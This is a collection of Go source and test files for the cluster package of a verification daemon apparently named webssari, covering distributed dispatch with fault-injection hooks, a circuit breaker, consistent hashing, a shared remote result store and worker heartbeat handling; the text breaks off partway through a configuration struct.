func TestClusterDispatchRetriesInjectedFaults(t *testing.T) {
	ctx := context.Background()
	dir := writeCorpus(t)
	local, err := webssari.VerifyDirContext(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}

	var (
		mu       sync.Mutex
		attempts = map[string]int{}
	)
	cfg := Config{
		// Keep the worker's breaker out of the picture: with faults on
		// two consecutive attempts per file and files dispatched
		// concurrently, the default threshold of 3 could trip open and
		// turn a retry test into a degradation test.
		BreakerThreshold: 1000,
		Hooks: Hooks{BeforeDispatch: func(workerID, file string, attempt int) error {
			mu.Lock()
			defer mu.Unlock()
			attempts[file]++
			if attempts[file] <= 2 {
				return fmt.Errorf("injected dispatch fault (%s attempt %d)", file, attempt)
			}
			return nil
		}},
	}
	c, _ := newTestCoordinator(t, cfg)
	w1 := newWorkerServer(t, service.Config{})
	mustRegister(t, c, w1.URL, "worker-1")

	got, err := c.VerifyDir(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}

	if li, gi := projectIdentity(t, local), projectIdentity(t, got); li != gi {
		t.Fatalf("report diverges from local run after injected dispatch faults:\nlocal:\n%s\nclustered:\n%s", li, gi)
	}
	cl := got.Profile.Cluster
	if cl == nil || cl.Degraded || cl.Remote != len(testCorpus) || cl.Local != 0 {
		t.Fatalf("cluster profile = %+v; want every file remote on the third attempt, not degraded", cl)
	}
	mu.Lock()
	for file, n := range attempts {
		if n != 3 {
			t.Errorf("%s saw %d dispatch attempts; want exactly 3 (two injected faults + one success)", file, n)
		}
	}
	mu.Unlock()
	wantFaults := int64(2 * len(testCorpus))
	if n := counterValue(c, telemetry.MetricClusterDispatchFailures); n != wantFaults {
		t.Errorf("dispatch-failure counter = %d; want %d (two injected faults per file)", n, wantFaults)
	}
	if n := counterValue(c, telemetry.MetricClusterRedispatches); n != wantFaults {
		t.Errorf("redispatch counter = %d; want %d (each fault forces one re-dispatch)", n, wantFaults)
	}
	if cl.Redispatches != int(wantFaults) {
		t.Errorf("profile redispatches = %d; want %d", cl.Redispatches, wantFaults)
	}
}
