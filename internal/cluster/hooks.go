package cluster

// Hooks are the cluster's fault-injection points — the distributed
// extension of the engine's PR-1 Hooks idea. Production runs leave them
// nil; the chaos tests and the CI cluster job use them to kill workers
// mid-job, drop or delay heartbeats, and inject dispatch failures at
// exact, deterministic moments instead of racing timers.
//
// All hooks may be invoked concurrently and must be safe for that.

import "time"

type Hooks struct {
	// BeforeDispatch runs before each per-file dispatch attempt
	// (attempt counts from 1). Returning an error aborts the attempt as
	// a transient dispatch failure — it counts against the worker's
	// breaker and the file's retry budget exactly like a network error.
	// Chaos tests use it to SIGKILL the victim worker at the precise
	// moment a file is about to land on it.
	BeforeDispatch func(workerID, file string, attempt int) error
	// DropHeartbeat, when it returns true, makes the coordinator ignore
	// an arriving heartbeat (the worker still gets a 200 — the loss is
	// on the "network"). Sustained drops get the worker evicted.
	DropHeartbeat func(workerID string) bool
	// DelayHeartbeat returns an artificial processing delay for a
	// worker's heartbeat (0 = none) — late heartbeats that should not
	// quite trip eviction.
	DelayHeartbeat func(workerID string) time.Duration
	// OnEvict observes each eviction after the worker is removed and its
	// in-flight dispatches cancelled.
	OnEvict func(workerID string)
}
