package cluster

// The shared result store over HTTP: the coordinator serves its local
// content-addressed store at /v1/store/{key}, and workers attach a
// RemoteStore (a store.Backend) pointing back at it, so any worker can
// serve any cached verdict and every worker's fresh verdicts land in one
// place. Keys are the store's own length-prefixed SHA-256 hex digests —
// opaque, uniform, and URL-safe.
//
// Failure semantics follow the store contract: a Get that cannot reach
// the coordinator is a miss (cold cache, never a wrong answer); Put
// returns an error that callers already swallow; Invalidate is
// best-effort.

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"regexp"

	"webssari/internal/store"
)

// maxStoreBlob bounds one stored payload on the wire (a result envelope
// or dependency graph; far below this in practice).
const maxStoreBlob = 64 << 20

// storeKeyRE validates wire keys. Every store key — results, namespaced
// graph blobs — is a 64-digit lowercase hex SHA-256 (store.Key), and
// the validation is load-bearing: the key becomes a filesystem path
// inside the store, so nothing path-like may pass.
var storeKeyRE = regexp.MustCompile(`^[0-9a-f]{64}$`)

// RemoteStore implements store.Backend against a coordinator's
// /v1/store endpoints.
type RemoteStore struct {
	base string
	hc   *http.Client
}

// NewRemoteStore returns a backend reading and writing the store served
// at base (e.g. "http://coordinator:8722"). hc nil uses
// http.DefaultClient.
func NewRemoteStore(base string, hc *http.Client) *RemoteStore {
	if hc == nil {
		hc = http.DefaultClient
	}
	for len(base) > 0 && base[len(base)-1] == '/' {
		base = base[:len(base)-1]
	}
	return &RemoteStore{base: base, hc: hc}
}

// Get fetches the payload under key; any transport or server problem
// degrades to a miss.
func (r *RemoteStore) Get(key string) ([]byte, bool) {
	if !storeKeyRE.MatchString(key) {
		return nil, false
	}
	resp, err := r.hc.Get(r.base + "/v1/store/" + key)
	if err != nil {
		return nil, false
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
		return nil, false
	}
	payload, err := io.ReadAll(io.LimitReader(resp.Body, maxStoreBlob+1))
	if err != nil || len(payload) > maxStoreBlob {
		return nil, false
	}
	return payload, true
}

// Put stores the payload under key on the coordinator.
func (r *RemoteStore) Put(key string, payload []byte) error {
	if !storeKeyRE.MatchString(key) {
		return fmt.Errorf("cluster: malformed store key %q", key)
	}
	req, err := http.NewRequest(http.MethodPut, r.base+"/v1/store/"+key, bytes.NewReader(payload))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/octet-stream")
	resp, err := r.hc.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
	if resp.StatusCode < 200 || resp.StatusCode >= 300 {
		return fmt.Errorf("cluster: remote store put: HTTP %d", resp.StatusCode)
	}
	return nil
}

// Invalidate removes the entry under key, best-effort.
func (r *RemoteStore) Invalidate(key string) {
	if !storeKeyRE.MatchString(key) {
		return
	}
	req, err := http.NewRequest(http.MethodDelete, r.base+"/v1/store/"+key, nil)
	if err != nil {
		return
	}
	resp, err := r.hc.Do(req)
	if err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 4096))
	resp.Body.Close()
}

var _ store.Backend = (*RemoteStore)(nil)

// storeServer serves a local backend at /v1/store/{key} (GET/PUT/DELETE)
// for RemoteStore peers. Registered on the coordinator's mux.
type storeServer struct {
	backend store.Backend
}

func (s *storeServer) register(mux *http.ServeMux) {
	mux.HandleFunc("GET /v1/store/{key}", s.handleGet)
	mux.HandleFunc("PUT /v1/store/{key}", s.handlePut)
	mux.HandleFunc("DELETE /v1/store/{key}", s.handleDelete)
}

func (s *storeServer) key(w http.ResponseWriter, r *http.Request) (string, bool) {
	key := r.PathValue("key")
	if !storeKeyRE.MatchString(key) {
		http.Error(w, "malformed store key", http.StatusBadRequest)
		return "", false
	}
	return key, true
}

func (s *storeServer) handleGet(w http.ResponseWriter, r *http.Request) {
	key, ok := s.key(w, r)
	if !ok {
		return
	}
	payload, ok := s.backend.Get(key)
	if !ok {
		http.Error(w, "no such entry", http.StatusNotFound)
		return
	}
	w.Header().Set("Content-Type", "application/octet-stream")
	_, _ = w.Write(payload)
}

func (s *storeServer) handlePut(w http.ResponseWriter, r *http.Request) {
	key, ok := s.key(w, r)
	if !ok {
		return
	}
	payload, err := io.ReadAll(io.LimitReader(r.Body, maxStoreBlob+1))
	if err != nil {
		http.Error(w, "reading body: "+err.Error(), http.StatusBadRequest)
		return
	}
	if len(payload) > maxStoreBlob {
		http.Error(w, "payload too large", http.StatusRequestEntityTooLarge)
		return
	}
	if err := s.backend.Put(key, payload); err != nil {
		http.Error(w, "storing: "+err.Error(), http.StatusInternalServerError)
		return
	}
	w.WriteHeader(http.StatusNoContent)
}

func (s *storeServer) handleDelete(w http.ResponseWriter, r *http.Request) {
	key, ok := s.key(w, r)
	if !ok {
		return
	}
	s.backend.Invalidate(key)
	w.WriteHeader(http.StatusNoContent)
}
