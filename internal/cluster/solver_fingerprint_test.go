package cluster

// Fingerprint neutrality of the solver-mode surface: a worker racing
// portfolios (or warm-starting) must still join a per-assert
// coordinator — those knobs change cost, never verdicts — while the
// verdict-shaping solver fields (budgets, restart caps) must still gate
// registration, under either their legacy or SolverConfig spelling.

import (
	"testing"

	"webssari"
)

func TestFingerprintSolverModeNeutral(t *testing.T) {
	base := Fingerprint(webssari.WithConfig(webssari.Config{MaxConflicts: 500}))
	for _, cfg := range []webssari.Config{
		{MaxConflicts: 500, Solver: webssari.SolverConfig{Mode: webssari.SolverShared}},
		{MaxConflicts: 500, Solver: webssari.SolverConfig{Mode: webssari.SolverPortfolio, Portfolio: 4}},
		{MaxConflicts: 500, Solver: webssari.SolverConfig{Mode: webssari.SolverShared, WarmStart: true}},
		// The same budget spelled through SolverConfig instead of the
		// legacy field.
		{Solver: webssari.SolverConfig{MaxConflicts: 500}},
	} {
		if fp := Fingerprint(webssari.WithConfig(cfg)); fp != base {
			t.Errorf("verdict-neutral solver config %+v changed the fingerprint", cfg.Solver)
		}
	}
}

func TestFingerprintSolverShapingGates(t *testing.T) {
	base := Fingerprint(webssari.WithConfig(webssari.Config{}))
	for _, cfg := range []webssari.Config{
		{MaxConflicts: 500},
		{Solver: webssari.SolverConfig{MaxConflicts: 500}},
		{Solver: webssari.SolverConfig{MaxRestarts: 7}},
	} {
		if fp := Fingerprint(webssari.WithConfig(cfg)); fp == base {
			t.Errorf("verdict-shaping solver config %+v did not change the fingerprint", cfg)
		}
	}
}
