package cluster

import (
	"testing"
	"time"
)

// fakeClock drives a breaker's injectable now().
type fakeClock struct{ t time.Time }

func (c *fakeClock) now() time.Time          { return c.t }
func (c *fakeClock) advance(d time.Duration) { c.t = c.t.Add(d) }

func newTestBreaker(threshold int, cooldown time.Duration) (*breaker, *fakeClock) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := newBreaker(threshold, cooldown)
	b.now = clk.now
	return b, clk
}

func TestBreakerTripsAfterConsecutiveFailures(t *testing.T) {
	b, _ := newTestBreaker(3, time.Minute)
	if !b.Allow() {
		t.Fatal("fresh breaker must allow")
	}
	if b.Failure() || b.Failure() {
		t.Fatal("breaker tripped before reaching the threshold")
	}
	if b.State() != breakerClosed {
		t.Fatalf("state = %s below threshold; want closed", b.State())
	}
	if !b.Failure() {
		t.Fatal("threshold-th consecutive failure must report the trip")
	}
	if b.State() != breakerOpen {
		t.Fatalf("state = %s after trip; want open", b.State())
	}
	if b.Allow() {
		t.Fatal("open breaker must refuse before the cooldown elapses")
	}
}

func TestBreakerSuccessResetsConsecutiveCount(t *testing.T) {
	b, _ := newTestBreaker(3, time.Minute)
	b.Failure()
	b.Failure()
	b.Success()
	if b.Failure() || b.Failure() {
		t.Fatal("success must reset the consecutive-failure count")
	}
	if !b.Failure() {
		t.Fatal("three fresh failures after the reset must trip")
	}
}

func TestBreakerHalfOpenSingleProbe(t *testing.T) {
	b, clk := newTestBreaker(1, time.Minute)
	b.Failure() // trip immediately
	if b.Allow() {
		t.Fatal("open breaker allowed during cooldown")
	}
	clk.advance(time.Minute)
	if b.State() != breakerHalfOpen {
		t.Fatalf("state = %s after cooldown; want half-open", b.State())
	}
	if !b.Allow() {
		t.Fatal("half-open breaker must admit one probe")
	}
	if b.Allow() {
		t.Fatal("half-open breaker admitted a second concurrent probe")
	}
}

func TestBreakerProbeSuccessCloses(t *testing.T) {
	b, clk := newTestBreaker(1, time.Minute)
	b.Failure()
	clk.advance(time.Minute)
	if !b.Allow() {
		t.Fatal("probe refused")
	}
	b.Success()
	if b.State() != breakerClosed {
		t.Fatalf("state = %s after probe success; want closed", b.State())
	}
	if !b.Allow() || !b.Allow() {
		t.Fatal("closed breaker must allow freely")
	}
}

func TestBreakerProbeFailureReopens(t *testing.T) {
	b, clk := newTestBreaker(3, time.Minute)
	b.Failure()
	b.Failure()
	b.Failure()
	clk.advance(time.Minute)
	if !b.Allow() {
		t.Fatal("probe refused")
	}
	if !b.Failure() {
		t.Fatal("a failed half-open probe must count as a trip")
	}
	if b.State() != breakerOpen {
		t.Fatalf("state = %s after failed probe; want open", b.State())
	}
	if b.Allow() {
		t.Fatal("re-opened breaker allowed during the fresh cooldown")
	}
	clk.advance(time.Minute)
	if !b.Allow() {
		t.Fatal("re-opened breaker must admit a probe after another cooldown")
	}
}
