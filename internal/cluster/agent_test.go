package cluster

// Agent lifecycle under chaos: join, steady-state heartbeating, network
// partition (dropped heartbeats) leading to eviction, automatic re-join
// once the partition heals, and graceful deregistration.

import (
	"context"
	"sync/atomic"
	"testing"
	"time"

	"webssari/internal/service"
	"webssari/internal/service/api"
)

func TestAgentJoinHeartbeatRejoinDeregister(t *testing.T) {
	var dropAll atomic.Bool
	var evictions atomic.Int32
	c, coordTS := newTestCoordinator(t, Config{
		HeartbeatInterval: 20 * time.Millisecond,
		HeartbeatMisses:   2,
		Hooks: Hooks{
			// The "network": while dropAll is set, heartbeats are
			// acknowledged but never recorded. The partition heals the
			// moment the eviction lands.
			DropHeartbeat: func(string) bool { return dropAll.Load() },
			OnEvict: func(string) {
				evictions.Add(1)
				dropAll.Store(false)
			},
		},
	})
	worker := newWorkerServer(t, service.Config{})

	ctx := context.Background()
	agent, err := Join(ctx, coordTS.URL, api.RegisterWorkerRequest{Addr: worker.URL, Name: "chaos-worker"}, nil)
	if err != nil {
		t.Fatalf("join: %v", err)
	}
	t.Cleanup(func() { _ = agent.Close(context.Background()) })
	firstID := agent.ID()
	if firstID == "" {
		t.Fatal("join returned an empty worker ID")
	}

	// Steady state: a heartbeating agent survives well past the
	// eviction window.
	time.Sleep(8 * 20 * time.Millisecond)
	if n := c.liveWorkers(); n != 1 {
		t.Fatalf("live workers = %d after steady-state heartbeating; want 1 (agent was evicted despite heartbeating)", n)
	}

	// Partition: drop every heartbeat until the eviction lands.
	dropAll.Store(true)
	waitFor(t, 10*time.Second, "the partitioned agent to be evicted", func() bool {
		return evictions.Load() >= 1
	})

	// Healed: the agent's next heartbeat gets a 404 and it must rejoin
	// under a fresh ID, without any external intervention.
	waitFor(t, 10*time.Second, "the agent to re-register after the partition healed", func() bool {
		return c.liveWorkers() == 1 && agent.ID() != firstID
	})

	// Graceful leave: deregistration, not eviction.
	if err := agent.Close(ctx); err != nil {
		t.Fatalf("close: %v", err)
	}
	if n := c.liveWorkers(); n != 0 {
		t.Fatalf("live workers = %d after graceful close; want 0", n)
	}
	if n := evictions.Load(); n != 1 {
		t.Fatalf("evictions = %d; the graceful leave must not count as an eviction", n)
	}
}

func TestAgentJoinRetriesWhileCoordinatorIsDown(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	// Nothing listens here: Join must keep retrying until its context
	// expires, then report the last error — not fail on first refusal.
	start := time.Now()
	_, err := Join(ctx, "http://127.0.0.1:1", api.RegisterWorkerRequest{Addr: "http://127.0.0.1:2", Name: "w"}, nil)
	if err == nil {
		t.Fatal("join succeeded against a dead coordinator")
	}
	if elapsed := time.Since(start); elapsed < 200*time.Millisecond {
		t.Fatalf("join gave up after %v; it should retry until the context expires", elapsed)
	}
}
