package cluster

// Consistent-hash ring: file jobs shard across workers by hashing the
// same length-prefixed SHA-256 content keys the result store uses
// (store.Key), so a file's verdict and its dispatch target derive from
// one fingerprint. Each worker projects onto the ring at `replicas`
// virtual points; membership changes therefore move only ~1/N of the
// keyspace, which keeps worker-local caches warm across failovers.
//
// The ring is not self-locking — the coordinator guards it with its own
// mutex alongside the membership map it mirrors.

import (
	"sort"
	"strconv"

	"webssari/internal/store"
)

// defaultReplicas is the virtual-node count per worker: enough to keep
// the expected load imbalance within a few percent for small clusters,
// small enough that membership changes stay O(replicas · log points).
const defaultReplicas = 64

type ringPoint struct {
	hash uint64
	id   string
}

type ring struct {
	replicas int
	points   []ringPoint // sorted by hash (ties by id for determinism)
}

func newRing(replicas int) *ring {
	if replicas <= 0 {
		replicas = defaultReplicas
	}
	return &ring{replicas: replicas}
}

// hashPoint maps an arbitrary string onto the ring: the first 16 hex
// digits of its store key, read as a uint64. store.Key is a
// length-prefixed SHA-256, so the projection is uniform and stable
// across processes — coordinator restarts re-derive the same ring.
func hashPoint(s string) uint64 {
	h, _ := strconv.ParseUint(store.Key(s)[:16], 16, 64)
	return h
}

// add inserts a worker's virtual points. Adding an existing id is a
// no-op (the points would be identical).
func (r *ring) add(id string) {
	for _, p := range r.points {
		if p.id == id {
			return
		}
	}
	for i := 0; i < r.replicas; i++ {
		r.points = append(r.points, ringPoint{
			hash: hashPoint("vnode|" + id + "|" + strconv.Itoa(i)),
			id:   id,
		})
	}
	sort.Slice(r.points, func(i, j int) bool {
		if r.points[i].hash != r.points[j].hash {
			return r.points[i].hash < r.points[j].hash
		}
		return r.points[i].id < r.points[j].id
	})
}

// remove deletes a worker's virtual points.
func (r *ring) remove(id string) {
	kept := r.points[:0]
	for _, p := range r.points {
		if p.id != id {
			kept = append(kept, p)
		}
	}
	r.points = kept
}

// sequence returns every distinct worker in ring order starting at the
// successor of key's hash — the dispatch preference order: sequence[0]
// owns the key, and each following entry is the natural failover target
// when everything before it is dead or tripped.
func (r *ring) sequence(key string) []string {
	if len(r.points) == 0 {
		return nil
	}
	h := hashPoint(key)
	start := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	seen := make(map[string]bool)
	var seq []string
	for i := 0; i < len(r.points); i++ {
		p := r.points[(start+i)%len(r.points)]
		if !seen[p.id] {
			seen[p.id] = true
			seq = append(seq, p.id)
		}
	}
	return seq
}

// owner returns the key's primary worker ("" on an empty ring).
func (r *ring) owner(key string) string {
	seq := r.sequence(key)
	if len(seq) == 0 {
		return ""
	}
	return seq[0]
}
