package cluster

// Per-worker circuit breaker. A worker that fails several dispatches in
// a row is probably down or wedged; routing more files at it just burns
// the retry budget. The breaker trips open after `threshold` consecutive
// failures, rejects dispatches for `cooldown`, then admits exactly one
// half-open probe — success closes it, failure re-opens it for another
// cooldown. Any success resets the consecutive-failure count.

import (
	"sync"
	"time"
)

const (
	breakerClosed   = "closed"
	breakerOpen     = "open"
	breakerHalfOpen = "half-open"
)

type breaker struct {
	mu        sync.Mutex
	threshold int
	cooldown  time.Duration
	now       func() time.Time // injectable for tests

	state       string
	consecutive int
	openedAt    time.Time
	probing     bool // half-open: one probe already admitted
}

func newBreaker(threshold int, cooldown time.Duration) *breaker {
	if threshold <= 0 {
		threshold = 3
	}
	if cooldown <= 0 {
		cooldown = 5 * time.Second
	}
	return &breaker{threshold: threshold, cooldown: cooldown, now: time.Now, state: breakerClosed}
}

// Allow reports whether a dispatch may be routed to the worker now. In
// the open state it flips to half-open once the cooldown has elapsed and
// admits a single probe.
func (b *breaker) Allow() bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case breakerClosed:
		return true
	case breakerOpen:
		if b.now().Sub(b.openedAt) < b.cooldown {
			return false
		}
		b.state = breakerHalfOpen
		b.probing = true
		return true
	default: // half-open
		if b.probing {
			return false
		}
		b.probing = true
		return true
	}
}

// Success records a completed dispatch, closing the breaker.
func (b *breaker) Success() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.state = breakerClosed
	b.consecutive = 0
	b.probing = false
}

// Failure records a failed dispatch and returns true when this failure
// tripped the breaker open (for the trip counter — re-opening from
// half-open counts as a trip too).
func (b *breaker) Failure() (tripped bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.consecutive++
	switch b.state {
	case breakerClosed:
		if b.consecutive >= b.threshold {
			b.state = breakerOpen
			b.openedAt = b.now()
			return true
		}
	case breakerHalfOpen:
		b.state = breakerOpen
		b.openedAt = b.now()
		b.probing = false
		return true
	}
	return false
}

// State returns the breaker state name for status renderings.
func (b *breaker) State() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	// Render an elapsed cooldown as half-open without mutating: Allow is
	// the only state-advancing reader.
	if b.state == breakerOpen && b.now().Sub(b.openedAt) >= b.cooldown {
		return breakerHalfOpen
	}
	return b.state
}
