package cluster

import (
	"fmt"
	"reflect"
	"testing"
)

func keyN(i int) string { return fmt.Sprintf("file-%d.php|<?php echo %d; ?>", i, i) }

func TestRingSequenceDeterministic(t *testing.T) {
	build := func(order []string) *ring {
		r := newRing(16)
		for _, id := range order {
			r.add(id)
		}
		return r
	}
	a := build([]string{"w1", "w2", "w3"})
	b := build([]string{"w3", "w1", "w2"}) // insertion order must not matter

	for i := 0; i < 50; i++ {
		key := keyN(i)
		sa := a.sequence(key)
		if got := a.sequence(key); !reflect.DeepEqual(sa, got) {
			t.Fatalf("sequence(%q) unstable across calls: %v vs %v", key, sa, got)
		}
		if sb := b.sequence(key); !reflect.DeepEqual(sa, sb) {
			t.Fatalf("sequence(%q) depends on insertion order: %v vs %v", key, sa, sb)
		}
	}
}

func TestRingSequenceCoversAllWorkersOnce(t *testing.T) {
	r := newRing(16)
	ids := []string{"w1", "w2", "w3", "w4"}
	for _, id := range ids {
		r.add(id)
	}
	for i := 0; i < 50; i++ {
		seq := r.sequence(keyN(i))
		if len(seq) != len(ids) {
			t.Fatalf("sequence(%q) = %v; want all %d workers", keyN(i), seq, len(ids))
		}
		seen := map[string]bool{}
		for _, id := range seq {
			if seen[id] {
				t.Fatalf("sequence(%q) repeats %s: %v", keyN(i), id, seq)
			}
			seen[id] = true
		}
	}
}

// Removing a worker must not move keys it did not own, and keys it did
// own must fail over to the next worker in their prior sequence — the
// property that keeps worker-local caches warm across an eviction.
func TestRingFailoverOrder(t *testing.T) {
	r := newRing(32)
	for _, id := range []string{"w1", "w2", "w3"} {
		r.add(id)
	}
	const victim = "w2"

	type placement struct{ owner, next string }
	before := map[string]placement{}
	for i := 0; i < 200; i++ {
		seq := r.sequence(keyN(i))
		before[keyN(i)] = placement{owner: seq[0], next: seq[1]}
	}

	r.remove(victim)
	for key, was := range before {
		now := r.owner(key)
		switch {
		case was.owner != victim && now != was.owner:
			t.Fatalf("key %q moved from %s to %s although %s was removed", key, was.owner, now, victim)
		case was.owner == victim && now != was.next:
			t.Fatalf("key %q failed over to %s; want its prior successor %s", key, now, was.next)
		}
	}
}

func TestRingDistribution(t *testing.T) {
	r := newRing(64)
	counts := map[string]int{}
	for _, id := range []string{"w1", "w2", "w3"} {
		r.add(id)
	}
	const total = 3000
	for i := 0; i < total; i++ {
		counts[r.owner(keyN(i))]++
	}
	for id, n := range counts {
		if n < total/10 {
			t.Errorf("worker %s owns %d/%d keys; consistent hashing should not starve a worker", id, n, total)
		}
	}
	if len(counts) != 3 {
		t.Fatalf("owners = %v; want all 3 workers represented", counts)
	}
}

func TestRingAddIdempotentAndRemove(t *testing.T) {
	r := newRing(8)
	r.add("w1")
	r.add("w1")
	if len(r.points) != 8 {
		t.Fatalf("double add left %d points; want %d", len(r.points), 8)
	}
	r.add("w2")
	r.remove("w1")
	if len(r.points) != 8 {
		t.Fatalf("remove left %d points; want %d", len(r.points), 8)
	}
	if owner := r.owner(keyN(1)); owner != "w2" {
		t.Fatalf("owner = %q after removing the only other worker; want w2", owner)
	}
}

func TestRingEmpty(t *testing.T) {
	r := newRing(8)
	if seq := r.sequence(keyN(1)); seq != nil {
		t.Fatalf("empty ring sequence = %v; want nil", seq)
	}
	if owner := r.owner(keyN(1)); owner != "" {
		t.Fatalf("empty ring owner = %q; want empty", owner)
	}
}
