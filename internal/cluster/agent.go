package cluster

// Agent is the worker side of cluster membership: join the coordinator
// (retrying while it comes up), heartbeat on the cadence the
// coordinator dictates, re-register transparently if the coordinator
// forgets us (eviction during a network partition, coordinator
// restart), and deregister on shutdown so the drain is graceful instead
// of an eviction.

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"sync"
	"time"

	"webssari/client"
	"webssari/internal/service/api"
)

// Agent maintains one worker's cluster membership. Create with Join;
// stop with Close.
type Agent struct {
	coord *client.Client
	req   api.RegisterWorkerRequest

	mu       sync.Mutex
	id       string
	interval time.Duration

	stop     chan struct{}
	done     chan struct{}
	stopOnce sync.Once
}

// Join registers with the coordinator at coordinatorURL and starts the
// heartbeat loop. Registration retries with backoff while the
// coordinator is unreachable (workers and coordinator may boot in any
// order), bounded by ctx; a definitive rejection — bad request,
// fingerprint conflict — fails immediately. hc nil uses
// http.DefaultClient.
func Join(ctx context.Context, coordinatorURL string, req api.RegisterWorkerRequest, hc *http.Client) (*Agent, error) {
	opts := []client.ClientOption{client.WithRetryPolicy(client.DefaultRetryPolicy)}
	if hc != nil {
		opts = append(opts, client.WithHTTPClient(hc))
	}
	a := &Agent{
		coord: client.New(coordinatorURL, opts...),
		req:   req,
		stop:  make(chan struct{}),
		done:  make(chan struct{}),
	}
	backoff := 100 * time.Millisecond
	for {
		resp, err := a.coord.RegisterWorker(ctx, req)
		if err == nil {
			a.id = resp.Worker
			a.interval = time.Duration(resp.HeartbeatIntervalMS) * time.Millisecond
			if a.interval <= 0 {
				a.interval = DefaultHeartbeatInterval
			}
			break
		}
		var apiErr *client.APIError
		if errors.As(err, &apiErr) && apiErr.StatusCode >= 400 && apiErr.StatusCode < 500 && !apiErr.Temporary() {
			return nil, fmt.Errorf("cluster: joining %s: %w", coordinatorURL, err)
		}
		timer := time.NewTimer(backoff)
		select {
		case <-ctx.Done():
			timer.Stop()
			return nil, fmt.Errorf("cluster: joining %s: %w (last error: %v)", coordinatorURL, ctx.Err(), err)
		case <-timer.C:
		}
		if backoff *= 2; backoff > 2*time.Second {
			backoff = 2 * time.Second
		}
	}
	go a.heartbeatLoop()
	return a, nil
}

// ID returns the coordinator-assigned worker ID.
func (a *Agent) ID() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.id
}

// heartbeatLoop refreshes liveness until Close. A 404 means the
// coordinator no longer knows us — evicted during a partition, or the
// coordinator restarted with empty membership — so the agent re-joins
// under a fresh ID rather than silently falling out of the cluster.
// Other errors are left for the next tick; the eviction budget
// (HeartbeatMisses) is exactly the tolerance for them.
func (a *Agent) heartbeatLoop() {
	defer close(a.done)
	ticker := time.NewTicker(a.interval)
	defer ticker.Stop()
	for {
		select {
		case <-a.stop:
			return
		case <-ticker.C:
		}
		ctx, cancel := context.WithTimeout(context.Background(), a.interval)
		err := a.coord.Heartbeat(ctx, a.ID())
		cancel()
		var apiErr *client.APIError
		if errors.As(err, &apiErr) && apiErr.StatusCode == http.StatusNotFound {
			rctx, rcancel := context.WithTimeout(context.Background(), a.interval)
			if resp, rerr := a.coord.RegisterWorker(rctx, a.req); rerr == nil {
				a.mu.Lock()
				a.id = resp.Worker
				a.mu.Unlock()
			}
			rcancel()
		}
	}
}

// Close stops heartbeating and deregisters from the coordinator
// (best-effort, bounded by ctx). Safe to call more than once.
func (a *Agent) Close(ctx context.Context) error {
	a.stopOnce.Do(func() { close(a.stop) })
	<-a.done
	if err := a.coord.DeregisterWorker(ctx, a.ID()); err != nil {
		var apiErr *client.APIError
		if errors.As(err, &apiErr) && apiErr.StatusCode == http.StatusNotFound {
			return nil // already evicted: the goal state
		}
		return err
	}
	return nil
}
