// Package cluster turns a set of webssarid daemons into one
// fault-tolerant verification cluster. A coordinator accepts worker
// registrations over the v1 wire schema, tracks liveness by heartbeat,
// and shards the files of each verification job across live workers by
// consistent hashing over store content keys — so a file's cached
// verdict, its dependency graph entry, and its dispatch target all
// derive from the same fingerprint, and any worker can serve any cached
// verdict through the shared result store (RemoteStore).
//
// Robustness is the point, and the invariant it protects is the
// engine's: a clustered run's verdicts are byte-identical (profiles and
// placement counters aside) to a local run's, no matter which workers
// die when. The mechanisms:
//
//   - Missed-heartbeat eviction: a worker silent for
//     HeartbeatMisses×HeartbeatInterval is removed from the ring and its
//     in-flight dispatches are cancelled and re-dispatched to the next
//     worker in the key's ring sequence.
//   - Per-dispatch retries with exponential backoff and jitter, bounded
//     by a retry budget; the server's Retry-After hint is honored.
//   - A per-worker circuit breaker trips after consecutive failures and
//     admits a half-open probe after a cooldown, so a dead worker stops
//     consuming retry budget.
//   - Graceful degradation: when no worker can take a file — none
//     registered, all tripped, budget exhausted — the coordinator runs
//     it locally with exactly the options a worker would have used, and
//     stamps the run's profile `cluster.degraded`. A dying cluster slows
//     down; it never fails a job it could have answered.
//
// Deterministic remote failures (the job itself failed — parse errors,
// pathological files) are replayed locally to reproduce the exact
// engine error a local run would record; they are not worker faults and
// do not trip breakers.
package cluster

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"webssari"
	"webssari/client"
	"webssari/internal/service/api"
	"webssari/internal/store"
	"webssari/internal/telemetry"
)

// Defaults for Config's zero values.
const (
	DefaultHeartbeatInterval = 2 * time.Second
	DefaultHeartbeatMisses   = 3
	DefaultRetryBudget       = 3
	DefaultBaseBackoff       = 50 * time.Millisecond
	DefaultMaxBackoff        = 2 * time.Second
	DefaultBreakerThreshold  = 3
	DefaultBreakerCooldown   = 5 * time.Second
	DefaultDispatchTimeout   = 2 * time.Minute
	DefaultPollInterval      = 50 * time.Millisecond
)

// Config assembles a Coordinator.
type Config struct {
	// HeartbeatInterval is the cadence workers must heartbeat at;
	// HeartbeatMisses consecutive silent intervals evict a worker.
	HeartbeatInterval time.Duration
	HeartbeatMisses   int
	// RetryBudget bounds remote dispatch attempts per file before the
	// coordinator degrades to local execution.
	RetryBudget int
	// BaseBackoff and MaxBackoff shape the between-attempt backoff
	// (exponential, jittered, Retry-After-aware).
	BaseBackoff time.Duration
	MaxBackoff  time.Duration
	// BreakerThreshold consecutive failures trip a worker's circuit
	// breaker open for BreakerCooldown, after which one probe is
	// admitted.
	BreakerThreshold int
